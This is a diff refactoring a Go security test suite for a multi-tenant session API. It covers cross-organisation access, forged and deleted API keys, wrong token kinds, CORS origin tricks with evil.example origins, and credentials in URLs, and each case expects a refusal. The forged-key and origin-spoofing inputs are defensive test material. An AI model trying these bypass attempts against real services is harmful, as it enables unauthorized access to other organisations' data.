-		serverCase(ClassAPIKeyOtherOrg, "B's key lists with A's cursor", "GET", func(f *Fixture) string {
-			return "/v1/sessions?cursor=" + url.QueryEscape(f.CursorOrgA)
-		}, keyB, nil, ok(listWithin(ids(sB1, sBV)))),
-		serverCase(ClassAPIKeyOtherOrg, "B's key exports A's contact", "GET", func(f *Fixture) string { return "/v1/contacts/" + f.ContactA1 + "/export" }, keyB, nil, refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "B's key deletes A's contact", "DELETE", func(f *Fixture) string { return "/v1/contacts/" + f.ContactA1 }, keyB, nil, refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "B's key on a deletion that is not B's", "GET", func(f *Fixture) string { return "/v1/deletions/" + f.Missing }, keyB, nil, refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "B's key on A's admin route", "POST", func(f *Fixture) string { return "/v1/admin/orgs/" + f.A.ID + "/api-keys" }, keyB, nil, refusal(401, unauthorized)),
+		sc(cl, "B's key reads A's session", "GET /v1/sessions/{SA1}", "Bearer {B.key}", "", nf),
+		sc(cl, "B's key reads A's victim session", "GET /v1/sessions/{SV}", "Bearer {B.key}", "", nf),
+		sc(cl, "B's key posts to A's session", "POST /v1/sessions/{SA1}/messages", "Bearer {B.key}", attackContent, nf),
+		sc(cl, "A's key reads B's session", "GET /v1/sessions/{SB1}", "Bearer {A.key}", "", nf),
+		sc(cl, "B's key lists: only B's sessions", "GET /v1/sessions?limit=100", "Bearer {B.key}", "", ok(listExactly("SB1", "SBV"))),
+		sc(cl, "B's key lists the victim's user_id: only B's", "GET /v1/sessions?user_id="+VictimID, "Bearer {B.key}", "", ok(listExactly("SBV"))),
+		sc(cl, "B's key lists with A's cursor", "GET /v1/sessions?cursor={CursorOrgA}", "Bearer {B.key}", "", ok(listWithin("SB1", "SBV"))),
+		sc(cl, "B's key exports A's contact", "GET /v1/contacts/{ContactA1}/export", "Bearer {B.key}", "", nf),
+		sc(cl, "B's key deletes A's contact", "DELETE /v1/contacts/{ContactA1}", "Bearer {B.key}", "", nf),
+		sc(cl, "B's key on a deletion that is not B's", "GET /v1/deletions/{Missing}", "Bearer {B.key}", "", nf),
+		sc(cl, "B's key on A's admin route", "POST /v1/admin/orgs/{A.ID}/api-keys", "Bearer {B.key}", "", refusal(401, unauthorized)),
 	}
 }
 
 func apiKeyDeletedCases() []Case {
-	var cs []Case
-	for _, rt := range serverRoutes {
-		cs = append(cs, serverCase(ClassAPIKeyDeleted, "deleted key: "+rt.name, rt.method, rt.path,
-			bearerOf(func(f *Fixture) string { return f.DeletedKey }), rt.body, refusal(401, unauthorized)))
-	}
-	return cs
+	return authCases(ClassAPIKeyDeleted, refusal(401, unauthorized), serverRoutes, tok("deleted key", fixed("Bearer {deleted}")))
 }
 
 func apiKeyForgedCases() []Case {
-	keys := []struct {
-		name string
-		key  func(f *Fixture) string
-	}{
-		{"a random sk_ key", func(*Fixture) string { return "sk_" + randHex(24) }},
-		{"A's key with its last character changed", func(f *Fixture) string {
-			k := f.A.APIKey
-			last := "A"
+	b := func(key func(f *Fixture) string) func(f *Fixture) string {
+		return func(f *Fixture) string { return "Bearer " + key(f) }
+	}
+	keys := []userToken{
+		tok("a random sk_ key", b(func(*Fixture) string { return "sk_" + randHex(24) })),
+		tok("A's key with its last character changed", b(func(f *Fixture) string {
+			k, last := f.A.APIKey, "A"
 			if strings.HasSuffix(k, "A") {
 				last = "B"
 			}
 			return k[:len(k)-1] + last
-		}},
-		{"A's key with a character appended", func(f *Fixture) string { return f.A.APIKey + "x" }},
-		{"A's key truncated", func(f *Fixture) string { return f.A.APIKey[:len(f.A.APIKey)-1] }},
-		{"A's key in upper case", func(f *Fixture) string { return "sk_" + strings.ToUpper(f.A.APIKey[3:]) }},
-		{"A's key with prefix pk_", func(f *Fixture) string { return "pk_" + f.A.APIKey[3:] }},
-		{"the SHA-256 (base64url) of A's key", func(f *Fixture) string {
+		})),
+		tok("A's key with a character appended", fixed("Bearer {A.key}x")),
+		tok("A's key truncated", b(func(f *Fixture) string { return f.A.APIKey[:len(f.A.APIKey)-1] })),
+		tok("A's key in upper case", b(func(f *Fixture) string { return "sk_" + strings.ToUpper(f.A.APIKey[3:]) })),
+		tok("A's key with prefix pk_", b(func(f *Fixture) string { return "pk_" + f.A.APIKey[3:] })),
+		tok("the SHA-256 (base64url) of A's key", b(func(f *Fixture) string {
 			s := sha256.Sum256([]byte(f.A.APIKey))
 			return base64.RawURLEncoding.EncodeToString(s[:])
-		}},
-		{"the SHA-256 (hex) of A's key", func(f *Fixture) string {
+		})),
+		tok("the SHA-256 (hex) of A's key", b(func(f *Fixture) string {
 			s := sha256.Sum256([]byte(f.A.APIKey))
 			return "sk_" + hex.EncodeToString(s[:])
-		}},
-		{"A's key id as a key", func(f *Fixture) string { return "sk_" + f.A.APIKeyID }},
+		})),
+		tok("A's key id as a key", fixed("Bearer sk_{A.keyID}")),
 	}
+	want := refusal(401, unauthorized)
 	var cs []Case
-	for _, k := range keys {
-		for _, rt := range []int{0, 4} { // GET /v1/sessions, POST /v1/users/revoke
-			r := serverRoutes[rt]
-			cs = append(cs, serverCase(ClassAPIKeyForged, k.name+": "+r.name, r.method, r.path, bearerOf(k.key), r.body, refusal(401, unauthorized)))
-		}
+	for _, k := range keys { // GET /v1/sessions, POST /v1/users/revoke
+		cs = append(cs, authCases(ClassAPIKeyForged, want, []route{serverRoutes[0], serverRoutes[4]}, k)...)
 	}
-	for _, a := range []struct {
-		name string
-		auth func(f *Fixture) string
-	}{
-		{"A's key without the Bearer scheme", func(f *Fixture) string { return f.A.APIKey }},
-		{"A's key with scheme Basic", func(f *Fixture) string { return "Basic " + f.A.APIKey }},
-		{"A's key with scheme Token", func(f *Fixture) string { return "Token " + f.A.APIKey }},
-		{"empty Bearer", fixed("Bearer ")},
-		{"no Authorization", fixed("")},
-	} {
-		r := serverRoutes[4]
-		cs = append(cs, serverCase(ClassAPIKeyForged, a.name+": "+r.name, r.method, r.path, a.auth, r.body, refusal(401, unauthorized)))
-	}
-	return cs
+	return append(cs, authCases(ClassAPIKeyForged, want, serverRoutes[4:],
+		tok("A's key without the Bearer scheme", fixed("{A.key}")), tok("A's key with scheme Basic", fixed("Basic {A.key}")),
+		tok("A's key with scheme Token", fixed("Token {A.key}")), tok("empty Bearer", fixed("Bearer ")), tok("no Authorization", fixed("")))...)
 }
 
 func adminForgedCases() []Case {
-	auths := []struct {
-		name string
-		auth func(f *Fixture) string
-	}{
-		{"no Authorization", fixed("")},
-		{"empty Bearer", fixed("Bearer ")},
-		{"admin token with a character appended", func(f *Fixture) string { return "Bearer " + f.adminToken + "x" }},
-		{"admin token truncated", func(f *Fixture) string { return "Bearer " + f.adminToken[:len(f.adminToken)-1] }},
-		{"admin token in upper case", func(f *Fixture) string { return "Bearer " + strings.ToUpper(f.adminToken) }},
-		{"admin token with scheme Basic", func(f *Fixture) string { return "Basic " + f.adminToken }},
-		{"admin token without a scheme", func(f *Fixture) string { return f.adminToken }},
-	}
-	var cs []Case
-	for _, a := range auths {
-		for _, rt := range adminRoutes {
-			cs = append(cs, serverCase(ClassAdminForged, a.name+": "+rt.name, rt.method, rt.path, a.auth, rt.body, refusal(401, unauthorized)))
-		}
-	}
-	return cs
+	return authCases(ClassAdminForged, refusal(401, unauthorized), adminRoutes,
+		tok("no Authorization", fixed("")), tok("empty Bearer", fixed("Bearer ")),
+		tok("admin token with a character appended", fixed("Bearer {admin}x")),
+		tok("admin token truncated", func(f *Fixture) string { return "Bearer " + f.adminToken[:len(f.adminToken)-1] }),
+		tok("admin token in upper case", func(f *Fixture) string { return "Bearer " + strings.ToUpper(f.adminToken) }),
+		tok("admin token with scheme Basic", fixed("Basic {admin}")), tok("admin token without a scheme", fixed("{admin}")))
 }
 
 func wrongKindCases() []Case {
+	const cl = ClassWrongKind
+	no := refusal(401, unauthorized)
 	var cs []Case
 	// Widget token, admin token and user tokens as api keys.
-	for _, k := range []struct {
-		name string
-		cred func(f *Fixture) string
-	}{
-		{"widget token as api key", func(f *Fixture) string { return f.A.WidgetToken }},
-		{"admin token as api key", func(f *Fixture) string { return f.adminToken }},
-		{"contact token as api key", tCA1},
-		{"verified token as api key", tV},
-	} {
-		for _, rt := range []int{0, 3, 4} {
-			r := serverRoutes[rt]
-			cs = append(cs, serverCase(ClassWrongKind, k.name+": "+r.name, r.method, r.path, bearerOf(k.cred), r.body, refusal(401, unauthorized)))
-		}
+	for _, k := range []userToken{tok("widget token as api key", fixed("Bearer {A.pk}")), tok("admin token as api key", fixed("Bearer {admin}")),
+		tok("contact token as api key", fixed("Bearer {CA1}")), tok("verified token as api key", fixed("Bearer {V}"))} {
+		cs = append(cs, authCases(cl, no, []route{serverRoutes[0], serverRoutes[3], serverRoutes[4]}, k)...)
 	}
 	// Api key, widget token, verified token as the admin token.
-	for _, k := range []struct {
-		name string
-		cred func(f *Fixture) string
-	}{
-		{"api key as admin token", func(f *Fixture) string { return f.A.APIKey }},
-		{"widget token as admin token", func(f *Fixture) string { return f.A.WidgetToken }},
-		{"verified token as admin token", tV},
-	} {
-		for _, rt := range adminRoutes {
-			cs = append(cs, serverCase(ClassWrongKind, k.name+": "+rt.name, rt.method, rt.path, bearerOf(k.cred), rt.body, refusal(401, unauthorized)))
-		}
-	}
+	cs = append(cs, authCases(cl, no, adminRoutes, tok("api key as admin token", fixed("Bearer {A.key}")),
+		tok("widget token as admin token", fixed("Bearer {A.pk}")), tok("verified token as admin token", fixed("Bearer {V}")))...)
 	// Api key, admin token, user token as the widget token.
-	for _, k := range []struct {
-		name string
-		pk   func(f *Fixture) string
-	}{
-		{"api key as widget token", func(f *Fixture) string { return f.A.APIKey }},
-		{"admin token as widget token", func(f *Fixture) string { return f.adminToken }},
-		{"contact token as widget token", tCA1},
+	for _, k := range []struct{ name, pk string }{
+		{"api key as widget token", "{A.key}"}, {"admin token as widget token", "{admin}"}, {"contact token as widget token", "{CA1}"},
 	} {
-		cs = append(cs,
-			Case{Class: ClassWrongKind, Name: k.name + ": POST /v1/widget/contacts", Want: refusal(401, unauthorized), Req: func(f *Fixture) Request {
-				return widgetReq("POST", "/v1/widget/contacts", k.pk(f), "", fmt.Sprintf(attackContactNameChange, f.DevA1))
-			}},
-			Case{Class: ClassWrongKind, Name: k.name + ": POST /v1/widget/sessions", Want: refusal(401, unauthorized), Req: func(f *Fixture) Request {
-				return widgetReq("POST", "/v1/widget/sessions", k.pk(f), f.CA1, attackSessionBody)
-			}},
-		)
+		cs = append(cs, wcOn(cl, k.name+": POST /v1/widget/contacts", "POST /v1/widget/contacts", k.pk, "", attackContactNameChange, no),
+			wcOn(cl, k.name+": POST /v1/widget/sessions", "POST /v1/widget/sessions", k.pk, "{CA1}", attackSessionBody, no))
 	}
 	// Api key, widget token, admin token as the user token.
-	cs = append(cs, tokenCases(ClassWrongKind, refusal(401, invalidToken), writeRoutes,
-		userToken{name: "api key as user token", make: func(f *Fixture) string { return f.A.APIKey }},
-		userToken{name: "widget token as user token", make: func(f *Fixture) string { return f.A.WidgetToken }},
-		userToken{name: "admin token as user token", make: func(f *Fixture) string { return f.adminToken }},
-	)...)
+	cs = append(cs, tokenCases(cl, refusal(401, invalidToken), writeRoutes, tok("api key as user token", fixed("{A.key}")),
+		tok("widget token as user token", fixed("{A.pk}")), tok("admin token as user token", fixed("{admin}")))...)
 	// The widget token alone, in Authorization.
-	cs = append(cs, Case{Class: ClassWrongKind, Name: "widget token in Authorization, no X-Widget-Token: POST /v1/widget/sessions",
-		Want: refusal(401, unauthorized), Req: func(f *Fixture) Request {
-			return widgetReq("POST", "/v1/widget/sessions", "", f.A.WidgetToken, attackSessionBody)
-		}})
-	return cs
+	return append(cs, wcOn(cl, "widget token in Authorization, no X-Widget-Token: POST /v1/widget/sessions", "POST /v1/widget/sessions", "", "{A.pk}", attackSessionBody, no))
 }
 
 // ---- browser origins ----
 
 func corsOriginCases() []Case {
-	origins := []struct {
-		name   string
-		origin func(f *Fixture) string
-	}{
-		{"an unknown origin", func(f *Fixture) string { return f.EvilOrigin }},
-		{"origin null", fixed("null")},
-		{"A's origin as a subdomain of another", func(f *Fixture) string { return f.A.Origin + ".evil.example" }},
-		{"A's host over http", func(f *Fixture) string { return "http://" + strings.TrimPrefix(f.A.Origin, "https://") }},
-		{"A's host on another port", func(f *Fixture) string { return f.A.Origin + ":8443" }},
-		{"a subdomain of A's host", func(f *Fixture) string { return "https://www." + strings.TrimPrefix(f.A.Origin, "https://") }},
-		{"A's origin with a trailing slash", func(f *Fixture) string { return f.A.Origin + "/" }},
-		{"the origin org B allows", func(f *Fixture) string { return f.B.Origin }},
-		{"two origins, A's first", func(f *Fixture) string { return f.A.Origin + ", " + f.EvilOrigin }},
+	origins := []struct{ name, origin string }{
+		{"an unknown origin", "{evil}"}, {"origin null", "null"}, {"A's origin as a subdomain of another", "{A.origin}.evil.example"},
+		{"A's host over http", "http://{A.host}"}, {"A's host on another port", "{A.origin}:8443"}, {"a subdomain of A's host", "https://www.{A.host}"},
+		{"A's origin with a trailing slash", "{A.origin}/"}, {"the origin org B allows", "{B.origin}"}, {"two origins, A's first", "{A.origin}, {evil}"},
 	}
 	deny := Want{Status: 403, Code: originNotAllowed, NoACAO: true}
 	var cs []Case
 	for _, o := range origins {
-		cs = append(cs, Case{Class: ClassCORSOrigin, Name: o.name + ": POST /v1/widget/contacts", Want: deny, Req: func(f *Fixture) Request {
-			req := widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", fmt.Sprintf(attackContactNameChange, f.DevA1))
-			req.Header.Set("Origin", o.origin(f))
-			return req
-		}})
+		cs = append(cs, call(ClassCORSOrigin, o.name+": POST /v1/widget/contacts", "POST /v1/widget/contacts", attackContactNameChange, deny,
+			"X-Widget-Token", "{A.pk}", "Origin", o.origin))
 	}
 	for _, o := range origins[:2] {
-		for _, rt := range []route{routeMe, routeCreate, routeList, routeGet, routePost} {
-			cs = append(cs, Case{Class: ClassCORSOrigin, Name: o.name + ": " + rt.name, Want: deny, Req: func(f *Fixture) Request {
-				req := widgetReq(rt.method, rt.path(f), f.A.WidgetToken, f.CA1, rt.body)
-				req.Header.Set("Origin", o.origin(f))
-				return req
-			}})
+		for _, rt := range allRoutes[:5] {
+			cs = append(cs, call(ClassCORSOrigin, o.name+": "+rt.name, rt.req, rt.body, deny, "X-Widget-Token", "{A.pk}", "Authorization", "Bearer {CA1}", "Origin", o.origin))
 		}
 	}
 	return cs
 }
 
 func corsPreflightCases() []Case {
-	origins := []struct {
-		name   string
-		origin func(f *Fixture) string
-	}{
-		{"an unknown origin", func(f *Fixture) string { return f.EvilOrigin }},
-		{"origin null", fixed("null")},
-		{"origin https: (a prefix of every https origin)", fixed("https:")},
-		{"origin https:/ (a prefix of every https origin)", fixed("https:/")},
-		{"origin http:", fixed("http:")},
-		{"A's origin as a subdomain of another", func(f *Fixture) string { return f.A.Origin + ".evil.example" }},
-		{"A's origin with a path", func(f *Fixture) string { return f.A.Origin + "/x" }},
-		{"the probe origin", func(f *Fixture) string { return f.ProbeOrigin }},
-	}
-	deny := Want{Status: 403, Code: originNotAllowed, NoACAO: true}
 	var cs []Case
-	for _, o := range origins {
-		for _, p := range []struct {
-			name   string
-			path   func(f *Fixture) string
-			method string
-		}{
-			{"/v1/widget/contacts", fixed("/v1/widget/contacts"), "POST"},
-			{"/v1/widget/sessions/{id}/messages", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SA1 + "/messages" }, "POST"},
+	for _, o := range []struct{ name, origin string }{
+		{"an unknown origin", "{evil}"}, {"origin null", "null"}, {"origin https: (a prefix of every https origin)", "https:"},
+		{"origin https:/ (a prefix of every https origin)", "https:/"}, {"origin http:", "http:"},
+		{"A's origin as a subdomain of another", "{A.origin}.evil.example"}, {"A's origin with a path", "{A.origin}/x"}, {"the probe origin", "{probe}"},
+	} {
+		for _, p := range []struct{ name, path string }{
+			{"/v1/widget/contacts", "/v1/widget/contacts"}, {"/v1/widget/sessions/{id}/messages", "/v1/widget/sessions/{SA1}/messages"},
 		} {
-			cs = append(cs, Case{Class: ClassCORSPreflight, Name: o.name + ": OPTIONS " + p.name, Want: deny, Req: func(f *Fixture) Request {
-				return Request{Method: "OPTIONS", Path: p.path(f), Header: hdr("Origin", o.origin(f),
-					"Access-Control-Request-Method", p.method, "Access-Control-Request-Headers", "authorization,content-type,x-widget-token")}
-			}})
+			cs = append(cs, call(ClassCORSPreflight, o.name+": OPTIONS "+p.name, "OPTIONS "+p.path, "", Want{Status: 403, Code: originNotAllowed, NoACAO: true},
+				"Origin", o.origin, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type,x-widget-token"))
 		}
 	}
 	return cs
 }
 
 func corsServerRouteCases() []Case {
-	originA := func(f *Fixture) string { return f.A.Origin }
-	evil := func(f *Fixture) string { return f.EvilOrigin }
-	with := func(origin func(f *Fixture) string, c Case) Case {
-		req := c.Req
-		c.Req = func(f *Fixture) Request {
-			r := req(f)
-			r.Header.Set("Origin", origin(f))
-			return r
-		}
-		c.Want.NoCORS = true
-		return c
+	const cl = ClassCORSServerRoutes
+	wrong := "Bearer sk_" + strings.Repeat("0", 40)
+	no := Want{Status: 401, Code: unauthorized, NoCORS: true}
+	yes := Want{Status: 200, NoCORS: true}
+	with := func(name, route, origin, auth, body string, want Want) Case {
+		return call(cl, name, route, body, want, "Authorization", auth, "Origin", origin)
 	}
-	keyA := bearerOf(func(f *Fixture) string { return f.A.APIKey })
-	wrong := fixed("Bearer sk_" + strings.Repeat("0", 40))
 	cs := []Case{
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, A's key: GET /v1/sessions", "GET", fixed("/v1/sessions"), keyA, nil, ok(nil))),
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, A's key: GET /v1/sessions/{id}", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 }, keyA, nil, ok(nil))),
-		with(evil, serverCase(ClassCORSServerRoutes, "unknown origin, A's key: GET /v1/sessions", "GET", fixed("/v1/sessions"), keyA, nil, ok(nil))),
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, wrong key: POST /v1/users/authenticate", "POST", fixed("/v1/users/authenticate"), wrong, body(attackAuthenticateBody), refusal(401, unauthorized))),
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, no key: POST /v1/users/revoke", "POST", fixed("/v1/users/revoke"), fixed(""), body(attackRevokeVictimBody), refusal(401, unauthorized))),
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, no key: POST /v1/sessions/{id}/messages", "POST", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 + "/messages" }, fixed(""), body(attackContent), refusal(401, unauthorized))),
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, no token: POST /v1/admin/orgs", "POST", fixed("/v1/admin/orgs"), fixed(""), probeOrgBody, refusal(401, unauthorized))),
-		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, wrong token: DELETE /v1/admin/orgs/{A}/api-keys/{id}", "DELETE", func(f *Fixture) string {
-			return "/v1/admin/orgs/" + f.A.ID + "/api-keys/" + f.A.APIKeyID
-		}, wrong, nil, refusal(401, unauthorized))),
+		with("A's origin, A's key: GET /v1/sessions", "GET /v1/sessions", "{A.origin}", "Bearer {A.key}", "", yes),
+		with("A's origin, A's key: GET /v1/sessions/{id}", "GET /v1/sessions/{SA1}", "{A.origin}", "Bearer {A.key}", "", yes),
+		with("unknown origin, A's key: GET /v1/sessions", "GET /v1/sessions", "{evil}", "Bearer {A.key}", "", yes),
+		with("A's origin, wrong key: POST /v1/users/authenticate", "POST /v1/users/authenticate", "{A.origin}", wrong, attackAuthenticateBody, no),
+		with("A's origin, no key: POST /v1/users/revoke", "POST /v1/users/revoke", "{A.origin}", "", attackRevokeVictimBody, no),
+		with("A's origin, no key: POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", "{A.origin}", "", attackContent, no),
+		with("A's origin, no token: POST /v1/admin/orgs", "POST /v1/admin/orgs", "{A.origin}", "", probeOrgBody, no),
+		with("A's origin, wrong token: DELETE /v1/admin/orgs/{A}/api-keys/{id}", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}", "{A.origin}", wrong, "", no),
 	}
 	for _, p := range []string{"/v1/sessions", "/v1/users/authenticate", "/v1/admin/orgs"} {
-		cs = append(cs, Case{Class: ClassCORSServerRoutes, Name: "A's origin: OPTIONS " + p,
-			Want: Want{Status: 405, Code: methodNotAllowed, NoCORS: true},
-			Req: func(f *Fixture) Request {
-				return Request{Method: "OPTIONS", Path: p, Header: hdr("Origin", f.A.Origin,
-					"Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type")}
-			}})
+		cs = append(cs, call(cl, "A's origin: OPTIONS "+p, "OPTIONS "+p, "", Want{Status: 405, Code: methodNotAllowed, NoCORS: true},
+			"Origin", "{A.origin}", "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type"))
 	}
 	return cs
 }
@@ -1099,32 +875,18 @@ func corsServerRouteCases() []Case {
 // ---- security headers ----
 
 func securityHeaderCases() []Case {
-	c := func(name string, want Want, req func(f *Fixture) Request) Case {
-		return Case{Class: ClassSecurityHeaders, Name: name, Want: want, Req: req}
-	}
+	const cl = ClassSecurityHeaders
 	return []Case{
-		c("GET /.well-known/jwks.json (public members only)", ok(publicJWKS), func(*Fixture) Request {
-			return Request{Method: "GET", Path: "/.well-known/jwks.json"}
-		}),
-		c("GET /v1/nope (404)", refusal(404, notFound), func(*Fixture) Request { return Request{Method: "GET", Path: "/v1/nope"} }),
-		c("PUT /v1/sessions (405)", refusal(405, methodNotAllowed), func(*Fixture) Request { return Request{Method: "PUT", Path: "/v1/sessions"} }),
-		c("PUT /v1/widget/me (405)", refusal(405, methodNotAllowed), func(f *Fixture) Request {
-			return widgetReq("PUT", "/v1/widget/me", f.A.WidgetToken, f.CA1, "")
-		}),
-		c("GET /v1/widget/me (200)", ok(nil), func(f *Fixture) Request { return widgetReq("GET", "/v1/widget/me", f.A.WidgetToken, f.CA1, "") }),
-		c("GET /v1/sessions (200)", ok(nil), func(f *Fixture) Request { return serverReq("GET", "/v1/sessions", "Bearer "+f.A.APIKey, "") }),
-		c("POST /v1/widget/contacts with broken JSON (400)", refusal(400, "invalid_json"), func(f *Fixture) Request {
-			return widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", "{")
-		}),
-		c("POST /v1/widget/contacts with a bad device id (400)", refusal(400, "invalid_device_id"), func(f *Fixture) Request {
-			return widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", `{"device_id":"not-a-uuid"}`)
-		}),
-		c("POST /v1/admin/orgs without a token (401)", refusal(401, unauthorized), func(f *Fixture) Request {
-			return serverReq("POST", "/v1/admin/orgs", "", probeOrgBody(f))
-		}),
-		c("OPTIONS preflight from A's origin (204)", Want{Status: 204}, func(f *Fixture) Request {
-			return Request{Method: "OPTIONS", Path: "/v1/widget/contacts", Header: hdr("Origin", f.A.Origin, "Access-Control-Request-Method", "POST")}
-		}),
+		call(cl, "GET /.well-known/jwks.json (public members only)", "GET /.well-known/jwks.json", "", ok(publicJWKS)),
+		call(cl, "GET /v1/nope (404)", "GET /v1/nope", "", refusal(404, notFound)),
+		call(cl, "PUT /v1/sessions (405)", "PUT /v1/sessions", "", refusal(405, methodNotAllowed)),
+		wc(cl, "PUT /v1/widget/me (405)", "PUT /v1/widget/me", "{CA1}", "", refusal(405, methodNotAllowed)),
+		wc(cl, "GET /v1/widget/me (200)", "GET /v1/widget/me", "{CA1}", "", ok(nil)),
+		sc(cl, "GET /v1/sessions (200)", "GET /v1/sessions", "Bearer {A.key}", "", ok(nil)),
+		wc(cl, "POST /v1/widget/contacts with broken JSON (400)", "POST /v1/widget/contacts", "", "{", refusal(400, "invalid_json")),
+		wc(cl, "POST /v1/widget/contacts with a bad device id (400)", "POST /v1/widget/contacts", "", `{"device_id":"not-a-uuid"}`, refusal(400, "invalid_device_id")),
+		sc(cl, "POST /v1/admin/orgs without a token (401)", "POST /v1/admin/orgs", "", probeOrgBody, refusal(401, unauthorized)),
+		call(cl, "OPTIONS preflight from A's origin (204)", "OPTIONS /v1/widget/contacts", "", Want{Status: 204}, "Origin", "{A.origin}", "Access-Control-Request-Method", "POST"),
 	}
 }
 
@@ -1155,27 +917,13 @@ func publicJWKS(_ *Fixture, r *Response) []string {
 // answer must not repeat it (the runner checks every answer for every
 // credential of the fixture).
 func credentialInURLCases() []Case {
-	c := func(name string, want Want, req func(f *Fixture) Request) Case {
-		return Case{Class: ClassCredentialInURL, Name: name, Want: want, Req: req}
-	}
+	const cl = ClassCredentialInURL
 	return []Case{
-		c("api key in an unknown path", refusal(404, notFound), func(f *Fixture) Request {
-			return serverReq("GET", "/v1/keys/"+f.A.APIKey, "", "")
-		}),
-		c("admin token in an unknown path", refusal(404, notFound), func(f *Fixture) Request {
-			return serverReq("GET", "/v1/admin/"+f.adminToken, "", "")
-		}),
-		c("api key as a session id", refusal(404, notFound), func(f *Fixture) Request {
-			return serverReq("GET", "/v1/sessions/"+f.A.APIKey, "Bearer "+f.A.APIKey, "")
-		}),
-		c("api key in the query, no Authorization", refusal(401, unauthorized), func(f *Fixture) Request {
-			return serverReq("GET", "/v1/sessions?api_key="+f.A.APIKey, "", "")
-		}),
-		c("user token in the query, no Authorization", refusal(401, unauthorized), func(f *Fixture) Request {
-			return widgetReq("GET", "/v1/widget/me?access_token="+f.CA1, f.A.WidgetToken, "", "")
-		}),
-		c("api key as the cursor", Want{Status: 400, Code: "invalid_request"}, func(f *Fixture) Request {
-			return serverReq("GET", "/v1/sessions?cursor="+f.A.APIKey, "Bearer "+f.A.APIKey, "")
-		}),
+		sc(cl, "api key in an unknown path", "GET /v1/keys/{A.key}", "", "", refusal(404, notFound)),
+		sc(cl, "admin token in an unknown path", "GET /v1/admin/{admin}", "", "", refusal(404, notFound)),
+		sc(cl, "api key as a session id", "GET /v1/sessions/{A.key}", "Bearer {A.key}", "", refusal(404, notFound)),
+		sc(cl, "api key in the query, no Authorization", "GET /v1/sessions?api_key={A.key}", "", "", refusal(401, unauthorized)),
+		wc(cl, "user token in the query, no Authorization", "GET /v1/widget/me?access_token={CA1}", "", "", refusal(401, unauthorized)),
+		sc(cl, "api key as the cursor", "GET /v1/sessions?cursor={A.key}", "Bearer {A.key}", "", Want{Status: 400, Code: "invalid_request"}),
 	}
 }
